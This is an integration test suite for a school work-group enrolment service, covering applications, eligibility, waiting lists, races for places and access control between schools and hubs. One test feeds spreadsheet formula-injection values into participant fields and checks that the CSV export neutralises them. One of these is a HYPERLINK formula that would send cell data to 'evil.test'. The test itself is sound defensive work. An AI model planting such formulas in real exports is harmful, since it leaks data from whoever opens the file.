package org.hubcycle.enrolment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrl;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.redirectedUrlPattern;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.time.Clock;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import org.hubcycle.catalogue.HubOffers;
import org.hubcycle.catalogue.HubOffers.WorkGroupBrief;
import org.hubcycle.directory.Hubs;
import org.hubcycle.directory.SchoolSearch;
import org.hubcycle.directory.SchoolSummary;
import org.hubcycle.directory.Schools;
import org.hubcycle.enrolment.Enrolments.ParticipantInput;
import org.hubcycle.enrolment.internal.Applications;
import org.hubcycle.notifications.Outbox;
import org.hubcycle.shared.AcademicYear;
import org.hubcycle.shared.HubScope;
import org.hubcycle.shared.Refused;
import org.hubcycle.support.IntegrationTest;
import org.hubcycle.support.SignedIn;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A school applies, is decided on with a reason from its history, gets a place or waits; the hub
 * accepts, waitlists, declines, overrides, withdraws and confirms completion. Nobody reaches
 * another school's or another hub's applications.
 */
@IntegrationTest
class EnrolmentTest {

    static final String DEMO = "demo-maths-hub";

    @Autowired
    MockMvc mvc;

    @Autowired
    SignedIn signedIn;

    @Autowired
    Enrolments enrolments;

    @Autowired
    Applications applications;

    @Autowired
    HubOffers offers;

    @Autowired
    Hubs hubs;

    @Autowired
    Schools schools;

    @Autowired
    Outbox outbox;

    @Autowired
    Clock clock;

    @Autowired
    JsonMapper json;

    @Test
    void theSchoolContactAppliesChecksTheirAnswersAndIsAcceptedOrToldWhyNot() throws Exception {
        WorkGroupBrief embedding = group("Embedding 1");
        Document form = page("/apply/" + embedding.id(), SignedIn.SCHOOL);
        assertThat(form.select("h1").text()).isEqualTo("Apply to Embedding 1");

        Document empty =
                html(post("/apply/" + embedding.id() + "/check").with(csrf()).with(signedIn.as(SignedIn.SCHOOL)));
        assertThat(empty.select(".govuk-error-summary a").eachAttr("href")).containsExactly("#name-1");
        Document half = html(post("/apply/" + embedding.id() + "/check")
                .with(csrf())
                .with(signedIn.as(SignedIn.SCHOOL))
                .param("name-1", "Ruby Okonjo")
                .param("email-1", "not-an-email")
                .param("trn-1", "12"));
        assertThat(half.select(".govuk-error-summary a").eachAttr("href"))
                .containsExactly("#email-1", "#jobTitle-1", "#role-1", "#trn-1");
        assertThat(half.select("#name-1").val()).isEqualTo("Ruby Okonjo");

        Document check = html(nominate(post("/apply/" + embedding.id() + "/check"), "Ruby Okonjo", "Teacher"));
        assertThat(check.select("h1").text()).isEqualTo("Check your answers before applying");
        assertThat(check.select("#decision").text())
                .startsWith("Eligible: the school completed Primary TfM Development in " + year().previous());

        String location = mvc.perform(nominate(post("/apply/" + embedding.id()), "Ruby Okonjo", "Teacher"))
                .andExpect(redirectedUrlPattern("/applications/*"))
                .andReturn()
                .getResponse()
                .getRedirectedUrl();
        Document application = page(location, SignedIn.SCHOOL);
        assertThat(application.select("#status").text()).isEqualTo("Accepted");
        assertThat(application.select(".govuk-summary-list").text())
                .contains("Ruby Okonjo, Class teacher (Teacher), TRN 1234567");
        assertThat(HubScope.asSystem(() -> outbox.list(SignedIn.SCHOOL, PageRequest.of(0, 5)))
                        .getContent())
                .anySatisfy(e -> assertThat(e.subject()).isEqualTo("Your application to Embedding 1"));

        Document again = html(nominate(post("/apply/" + embedding.id()), "Ruby Okonjo", "Teacher"));
        assertThat(again.select(".govuk-error-summary").text()).contains("has already applied to Embedding 1");
        // Opening the form again leads to the application made, with a note saying why (flash kept in the session).
        MockHttpServletResponse redirected = mvc.perform(
                        get("/apply/" + embedding.id()).with(signedIn.as(SignedIn.SCHOOL)))
                .andExpect(redirectedUrl(location))
                .andReturn()
                .getResponse();
        Document told = html(get(location).with(signedIn.as(SignedIn.SCHOOL)).cookie(redirected.getCookies()));
        assertThat(told.select(".govuk-notification-banner[role=region]").text())
                .isEqualTo("Important Your school has already applied to this work group: this is its application.");
        assertThat(told.select(".govuk-notification-banner--success")).isEmpty();
        // Another school's contact (here one still waiting to be approved) gets the form, not this school's
        // application.
        assertThat(page("/apply/" + embedding.id(), "pending@hubcycle.test")
                        .select("h1")
                        .text())
                .isEqualTo("Apply to Embedding 1");

        WorkGroupBrief development = group("Development 2");
        Document roles = html(nominate(post("/apply/" + development.id()), "Sam Ellery", "Headteacher"));
        assertThat(roles.select(".govuk-error-summary").text())
                .contains("needs 1 Maths lead and 1 Teacher from each school");
        String ineligible = mvc.perform(post("/apply/" + development.id())
                        .with(csrf())
                        .with(signedIn.as(SignedIn.SCHOOL))
                        .param("name-1", "Sam Ellery")
                        .param("email-1", "sam@alderfield.test")
                        .param("jobTitle-1", "Teacher")
                        .param("role-1", "Teacher")
                        .param("name-2", "Kit Ferris")
                        .param("email-2", "kit@alderfield.test")
                        .param("jobTitle-2", "Maths lead")
                        .param("role-2", "Maths lead"))
                .andExpect(redirectedUrlPattern("/applications/*"))
                .andReturn()
                .getResponse()
                .getRedirectedUrl();
        Document refused = page(ineligible, SignedIn.SCHOOL);
        assertThat(refused.select("#status").text()).isEqualTo("Not eligible");
        assertThat(refused.select("#eligibility").text())
                .contains("Not eligible: the school took part in Primary TfM Development in " + year().previous()
                        + ", and a school takes it once");

        long id = Long.parseLong(ineligible.substring(ineligible.lastIndexOf('/') + 1));
        Document noReason = html(
                post("/enrolment/applications/" + id + "/override").with(csrf()).with(signedIn.as(SignedIn.HUB_LEAD)));
        assertThat(noReason.select(".govuk-error-summary a").attr("href")).isEqualTo("#reason");
        mvc.perform(post("/enrolment/applications/" + id + "/override")
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD))
                        .param("reason", "Two new teachers who missed last year's group"))
                .andExpect(redirectedUrl("/enrolment/applications/" + id));
        Document overridden = page(ineligible, SignedIn.SCHOOL);
        assertThat(overridden.select("#status").text()).isEqualTo("Accepted");
        assertThat(overridden.select("#eligibility").text())
                .as("the hub's note stays with the hub")
                .contains("The hub has agreed that the school may take part")
                .doesNotContain("Two new teachers");
        assertThat(page("/enrolment/applications/" + id, SignedIn.HUB_LEAD)
                        .select("#eligibility")
                        .text())
                .contains("The hub let the school take part: Two new teachers");
    }

    @Test
    void aConvertedAcademyKeepsItsPredecessorsHistory() throws Exception {
        SchoolSummary academy = HubScope.asSystem(() -> Stream.of("881", "882", "883")
                .flatMap(la -> schools
                        .search(new SchoolSearch("Academy", null, la, null, "Open", null, null), PageRequest.of(0, 100))
                        .stream())
                .filter(s -> applications.forSchool(s.urn()).isEmpty())
                .filter(s -> schools.lineage(s.urn()).stream()
                        .anyMatch(urn ->
                                urn != s.urn() && !applications.forSchool(urn).isEmpty()))
                .findFirst()
                .orElseThrow());
        JsonNode development = api(
                "/api/v1/schools/" + academy.urn() + "/eligibility?workGroup="
                        + group("Development 3").id(),
                SignedIn.HUB_LEAD);
        assertThat(development.get("eligible").asBoolean()).isFalse();
        assertThat(development.get("reasonCode").asString()).isEqualTo("ALREADY_TAKEN_PART");
        assertThat(development.get("reason").asString()).contains("as its predecessor, URN");
        JsonNode embedding = api(
                "/api/v1/schools/" + academy.urn() + "/eligibility?workGroup="
                        + group("Embedding 2").id(),
                SignedIn.HUB_LEAD);
        assertThat(embedding.get("eligible").asBoolean()).isTrue();

        Document history = page("/schools/" + academy.urn() + "/enrolments", SignedIn.HUB_LEAD);
        assertThat(history.select("#pathway").text())
                .contains("Primary Teaching for Mastery: completed Development in " + year().previous()
                        + "; next: Embedding");
    }

    @Test
    void placesRunOutThenTheWaitingListTakesAFreedPlace() throws Exception {
        WorkGroupBrief group = group("Readiness 1");
        List<SchoolSummary> fresh = freshPrimaries("882", 10);
        String hostile = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
        enrolments.apply(new Enrolments.Application(
                group.id(),
                fresh.get(0).urn(),
                List.of(
                        new ParticipantInput(
                                hostile, "first@" + fresh.get(0).urn() + ".test", "@SUM(1+1)", "Teacher", null),
                        new ParticipantInput(
                                "+1+1 Second", "second@" + fresh.get(0).urn() + ".test", "-2+3", "Maths lead", null)),
                "head@" + fresh.get(0).urn() + ".test"));
        for (int i = 1; i < 8; i++) {
            apply(group, fresh.get(i));
        }
        long waitingId = apply(group, fresh.get(8));
        long secondId = apply(group, fresh.get(9));
        assertThat(view(waitingId).status()).isEqualTo(EnrolmentStatus.WAITLISTED);
        assertThat(waitingLine(fresh.get(8), waitingId))
                .isEqualTo("Your school is number 1 of 2 on the waiting list."
                        + " When a place comes free it goes to the first school on the list, which is emailed.");
        assertThat(waitingLine(fresh.get(9), secondId)).startsWith("Your school is number 2 of 2");
        long accepted = HubScope.asSystem(
                        () -> applications.forSchool(fresh.get(0).urn()))
                .get(0)
                .id();

        mvc.perform(post("/enrolment/applications/" + accepted + "/withdraw")
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD))
                        .param("withdrawReason", "The school merged its classes"))
                .andExpect(redirectedUrl("/enrolment/applications/" + accepted));
        assertThat(view(accepted).status()).isEqualTo(EnrolmentStatus.WITHDRAWN);
        assertThat(view(waitingId).status()).isEqualTo(EnrolmentStatus.ACCEPTED);
        assertThat(waitingLine(fresh.get(8), waitingId))
                .as("a place, not a queue")
                .isEmpty();
        assertThat(waitingLine(fresh.get(9), secondId)).startsWith("Your school is number 1 of 1");
        assertThat(HubScope.asSystem(() -> outbox.list("head@" + fresh.get(8).urn() + ".test", PageRequest.of(0, 5)))
                        .getContent())
                .anySatisfy(e -> assertThat(e.subject()).isEqualTo("A place in Readiness 1"));
        assertThat(page("/enrolment/work-groups/" + group.id(), SignedIn.HUB_LEAD)
                        .select("#places")
                        .text())
                .isEqualTo("8 of 8");

        Document invalid = html(post("/enrolment/applications/" + accepted + "/completion")
                .with(csrf())
                .with(signedIn.as(SignedIn.HUB_LEAD))
                .param("completed", "yes"));
        assertThat(invalid.select(".govuk-error-summary").text()).contains("withdrawn cannot become completed");
        mvc.perform(post("/enrolment/applications/" + waitingId + "/completion")
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD))
                        .param("completed", "no")
                        .param("endedEarly", "The school closed its maths department"))
                .andExpect(redirectedUrl("/enrolment/applications/" + waitingId));
        assertThat(view(waitingId).status()).isEqualTo(EnrolmentStatus.NOT_COMPLETED);

        String csv = mvc.perform(
                        get("/enrolment/work-groups/" + group.id() + ".csv").with(signedIn.as(SignedIn.HUB_LEAD)))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString();
        assertThat(csv)
                .startsWith("\uFEFFURN,School,Status,Eligible")
                .contains(String.valueOf(fresh.get(8).urn()), "Not completed", "Withdrawn");
        assertThat(csv)
                .as("formulas are neutralised")
                .contains("'" + hostile.replace("\"", "\"\""))
                .doesNotContain("," + hostile)
                .doesNotContain(",\"" + hostile);
    }

    @Test
    void twoSchoolsRacingForTheLastPlaceExactlyOneGetsIt() throws Exception {
        WorkGroupBrief group = group("Development 3");
        List<SchoolSummary> fresh = freshPrimaries("883", 9);
        for (int i = 0; i < 6; i++) {
            apply(group, fresh.get(i));
        }
        ExecutorService pool = Executors.newFixedThreadPool(2);
        CountDownLatch start = new CountDownLatch(1);
        List<Future<Long>> racing = new ArrayList<>();
        for (int i = 6; i < 8; i++) {
            SchoolSummary school = fresh.get(i);
            racing.add(pool.submit((Callable<Long>) () -> {
                start.await();
                return apply(group, school);
            }));
        }
        start.countDown();
        List<EnrolmentStatus> outcomes = new ArrayList<>();
        for (Future<Long> f : racing) {
            outcomes.add(view(f.get()).status());
        }
        pool.shutdown();
        assertThat(outcomes).containsExactlyInAnyOrder(EnrolmentStatus.ACCEPTED, EnrolmentStatus.WAITLISTED);
        assertThat(page("/enrolment/work-groups/" + group.id(), SignedIn.HUB_LEAD)
                        .select("#places")
                        .text())
                .isEqualTo("7 of 7");
    }

    @Test
    void hubStaffSeeAWorkGroupsApplicationsButNotTheHubLeadsControls() throws Exception {
        WorkGroupBrief secondary = group("Secondary Development 1");
        String path = "/enrolment/work-groups/" + secondary.id();
        Document lead = page(path, SignedIn.HUB_LEAD);
        Document seen = Jsoup.parse(mvc.perform(get(path).with(signedIn.asStaffOf(hubs.getBySlug(DEMO))))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString());

        assertThat(lead.select("form#allocate")).hasSize(1);
        assertThat(lead.select("a[href$=/completion]")).hasSize(1);
        assertThat(seen.select("h1").text()).isEqualTo(lead.select("h1").text());
        assertThat(seen.select("form#allocate")).isEmpty();
        assertThat(seen.select("a[href$=/completion]")).isEmpty();
    }

    @Test
    void anotherHubsLeadCannotSeeOrDecideAWorkGroupsApplications() throws Exception {
        String path =
                "/enrolment/work-groups/" + group("Secondary Development 1").id();

        mvc.perform(get(path).with(signedIn.as(SignedIn.HUB_LEAD_2))).andExpect(status().isNotFound());
        mvc.perform(post(path)
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD_2))
                        .param("action", "ACCEPT"))
                .andExpect(status().isNotFound());
        mvc.perform(post(path + "/allocate").with(csrf()).with(signedIn.as(SignedIn.HUB_LEAD_2)))
                .andExpect(status().isNotFound());
    }

    @Test
    void byPriorityApplicationsWaitForTheHubWhoActsOnManyAtOnceAllOrNothing() throws Exception {
        WorkGroupBrief secondary = group("Secondary Development 1");
        List<SchoolSummary> schoolsOf = HubScope.asSystem(() -> schools.search(
                        new SchoolSearch(null, "Secondary", "881", null, "Open", null, null), PageRequest.of(0, 3))
                .getContent());
        List<Long> ids = new ArrayList<>();
        for (SchoolSummary s : schoolsOf) {
            ids.add(enrolments.apply(new Enrolments.Application(
                    secondary.id(),
                    s.urn(),
                    List.of(
                            new ParticipantInput(
                                    "Advocate A", "a@" + s.urn() + ".test", "Teacher", "Mastery Advocate", null),
                            new ParticipantInput(
                                    "Advocate B", "b@" + s.urn() + ".test", "Teacher", "Mastery Advocate", null)),
                    "head@" + s.urn() + ".test")));
        }
        assertThat(ids).allSatisfy(id -> assertThat(view(id).status()).isEqualTo(EnrolmentStatus.APPLIED));

        Document early = html(post("/enrolment/work-groups/" + secondary.id() + "/allocate")
                .with(csrf())
                .with(signedIn.as(SignedIn.HUB_LEAD)));
        assertThat(early.select(".govuk-error-summary").text()).contains("Places are given after the deadline");

        mvc.perform(post("/enrolment/work-groups/" + secondary.id())
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD))
                        .param("ids", String.valueOf(ids.get(0)))
                        .param("action", "WAITLIST"))
                .andExpect(redirectedUrl("/enrolment/work-groups/" + secondary.id()));
        Document none = html(post("/enrolment/work-groups/" + secondary.id())
                .with(csrf())
                .with(signedIn.as(SignedIn.HUB_LEAD))
                .param("ids", String.valueOf(ids.get(1)), String.valueOf(ids.get(0)))
                .param("action", "WAITLIST"));
        assertThat(none.select(".govuk-error-summary").text())
                .contains("Nothing was changed", "on the waiting list cannot become on the waiting list");
        assertThat(view(ids.get(1)).status()).isEqualTo(EnrolmentStatus.APPLIED);

        mvc.perform(post("/enrolment/work-groups/" + secondary.id())
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD))
                        .param("ids", String.valueOf(ids.get(1)), String.valueOf(ids.get(0)))
                        .param("action", "ACCEPT"))
                .andExpect(redirectedUrl("/enrolment/work-groups/" + secondary.id()));
        assertThat(view(ids.get(0)).status()).isEqualTo(EnrolmentStatus.ACCEPTED);
        assertThat(view(ids.get(1)).status()).isEqualTo(EnrolmentStatus.ACCEPTED);
        mvc.perform(post("/enrolment/work-groups/" + secondary.id())
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD))
                        .param("ids", String.valueOf(ids.get(2)))
                        .param("action", "DECLINE")
                        .param("message", "The group is for schools in the north of the county"))
                .andExpect(redirectedUrl("/enrolment/work-groups/" + secondary.id()));
        assertThat(view(ids.get(2)).status()).isEqualTo(EnrolmentStatus.DECLINED);

        Document year = page("/enrolment/" + year().slug(), SignedIn.HUB_LEAD);
        assertThat(year.select("table").last().text()).contains("Secondary Development 1 2 £6,000");
    }

    @Test
    void aHubsYearPageShowsOnlyItsOwnWorkGroups() throws Exception {
        long demo = hubs.getBySlug(DEMO).id();
        List<String> demoGroups = HubScope.asSystem(() -> offers.briefs(demo, year())).stream()
                .map(g -> "/enrolment/work-groups/" + g.id())
                .toList();
        List<String> own = page("/enrolment/" + year().slug(), SignedIn.HUB_LEAD)
                .select("a[href^=/enrolment/work-groups/]")
                .eachAttr("href");
        List<String> other = page("/enrolment/" + year().slug(), SignedIn.HUB_LEAD_2)
                .select("a[href^=/enrolment/work-groups/]")
                .eachAttr("href");
        assertThat(own).isNotEmpty().allMatch(demoGroups::contains);
        assertThat(other).doesNotContainAnyElementsOf(demoGroups);
    }

    @Test
    void participantsAreCheckedAgainstPlacesAndRoles() {
        WorkGroupBrief embedding = group("Embedding 2");
        SchoolSummary school = freshPrimaries("882", 10).get(9);
        assertThatThrownBy(() -> enrolments.apply(new Enrolments.Application(
                        embedding.id(),
                        school.urn(),
                        List.of(
                                new ParticipantInput("One", "one@x.test", "Teacher", "Teacher", null),
                                new ParticipantInput("Two", "two@x.test", "Teacher", "Teacher", null)),
                        "head@x.test")))
                .isInstanceOfSatisfying(Refused.class, refused -> {
                    assertThat(refused.code()).isEqualTo("enrolment.participants.tooMany");
                    assertThat(refused.arguments()).containsExactly("Embedding 2", 1);
                });
    }

    @Test
    void nobodyReachesAnotherSchoolsOrAnotherHubsApplications() throws Exception {
        WorkGroupBrief development = group("Development 1");
        long someone = HubScope.asSystem(() -> applications.allForWorkGroup(development.id()))
                .get(0)
                .id();
        mvc.perform(get("/applications/" + someone).with(signedIn.as(SignedIn.SCHOOL)))
                .andExpect(status().isNotFound());
        mvc.perform(post("/applications/" + someone + "/withdraw")
                        .with(csrf())
                        .with(signedIn.as(SignedIn.SCHOOL))
                        .param("withdrawReason", "Not mine"))
                .andExpect(status().isNotFound());
        mvc.perform(get("/enrolment/work-groups/" + development.id()).with(signedIn.as(SignedIn.SCHOOL)))
                .andExpect(status().isForbidden());
        mvc.perform(get("/apply/" + development.id())).andExpect(redirectedUrl("/login"));
        mvc.perform(get("/apply/" + development.id()).with(signedIn.as(SignedIn.HUB_LEAD)))
                .andExpect(status().isForbidden());
        int otherSchool = HubScope.asSystem(() -> applications.allForWorkGroup(development.id()))
                .get(0)
                .urn();
        mvc.perform(get("/api/v1/schools/" + otherSchool + "/eligibility?workGroup=" + development.id())
                        .with(signedIn.as(SignedIn.SCHOOL)))
                .andExpect(status().isNotFound());
        mvc.perform(get("/schools/" + otherSchool + "/enrolments").with(signedIn.as(SignedIn.SCHOOL)))
                .andExpect(status().isNotFound());

        mvc.perform(get("/enrolment/work-groups/" + development.id()).with(signedIn.as(SignedIn.HUB_LEAD_2)))
                .andExpect(status().isNotFound());
        mvc.perform(get("/enrolment/applications/" + someone).with(signedIn.as(SignedIn.HUB_LEAD_2)))
                .andExpect(status().isNotFound());
        mvc.perform(post("/enrolment/applications/" + someone + "/withdraw")
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD_2))
                        .param("withdrawReason", "Taken over"))
                .andExpect(status().isNotFound());
        mvc.perform(post("/enrolment/work-groups/" + development.id())
                        .with(csrf())
                        .with(signedIn.as(SignedIn.HUB_LEAD_2))
                        .param("ids", String.valueOf(someone))
                        .param("action", "DECLINE"))
                .andExpect(status().isNotFound());
        mvc.perform(get("/api/v1/work-groups/" + development.id() + "/enrolments")
                        .with(signedIn.as(SignedIn.HUB_LEAD_2)))
                .andExpect(status().isNotFound());
        assertThat(view(someone).status()).isEqualTo(EnrolmentStatus.ACCEPTED);
        assertThat(page("/schools/" + otherSchool + "/enrolments", SignedIn.HUB_LEAD_2)
                        .text())
                .doesNotContain("Development 1");
        assertThat(api("/api/v1/work-groups/" + development.id() + "/enrolments", SignedIn.HUB_LEAD)
                        .get("enrolments")
                        .size())
                .isGreaterThanOrEqualTo(6);
    }

    private long apply(WorkGroupBrief group, SchoolSummary school) {
        return enrolments.apply(new Enrolments.Application(
                group.id(),
                school.urn(),
                List.of(
                        new ParticipantInput(
                                "First teacher", "first@" + school.urn() + ".test", "Teacher", "Teacher", null),
                        new ParticipantInput(
                                "Second teacher",
                                "second@" + school.urn() + ".test",
                                "Maths lead",
                                "Maths lead",
                                null)),
                "head@" + school.urn() + ".test"));
    }

    /** Open primary schools of a local authority that have no application yet. */
    /** What the school's contact reads about its place on the waiting list, if anything. */
    private String waitingLine(SchoolSummary school, long application) throws Exception {
        return html(get("/applications/" + application).with(signedIn.asContactOf(school.urn())))
                .select("#waiting")
                .text();
    }

    private List<SchoolSummary> freshPrimaries(String la, int count) {
        return HubScope.asSystem(() ->
                schools
                        .search(new SchoolSearch(null, "Primary", la, null, "Open", null, null), PageRequest.of(0, 200))
                        .stream()
                        .filter(s -> applications.forSchool(s.urn()).isEmpty()
                                && schools.lineage(s.urn()).size() == 1)
                        .limit(count)
                        .toList());
    }

    private Applications.View view(long id) {
        return HubScope.asSystem(() -> applications.find(id)).orElseThrow();
    }

    private MockHttpServletRequestBuilder nominate(MockHttpServletRequestBuilder request, String name, String role) {
        return request.with(csrf())
                .with(signedIn.as(SignedIn.SCHOOL))
                .param("name-1", name)
                .param("email-1", "ruby@alderfield.test")
                .param("jobTitle-1", "Class teacher")
                .param("role-1", role)
                .param("trn-1", "1234567");
    }

    private WorkGroupBrief group(String name) {
        long demo = hubs.getBySlug(DEMO).id();
        return HubScope.asSystem(() -> offers.briefs(demo, year())).stream()
                .filter(g -> g.name().equals(name))
                .findFirst()
                .orElseThrow();
    }

    private JsonNode api(String path, String user) throws Exception {
        return json.readTree(mvc.perform(get(path).with(signedIn.as(user)))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString());
    }

    private Document page(String path, String user) throws Exception {
        return Jsoup.parse(mvc.perform(get(path).with(signedIn.as(user)))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString());
    }

    private Document html(MockHttpServletRequestBuilder request) throws Exception {
        return Jsoup.parse(mvc.perform(request)
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString());
    }

    private AcademicYear year() {
        return AcademicYear.containing(LocalDate.now(clock));
    }
}
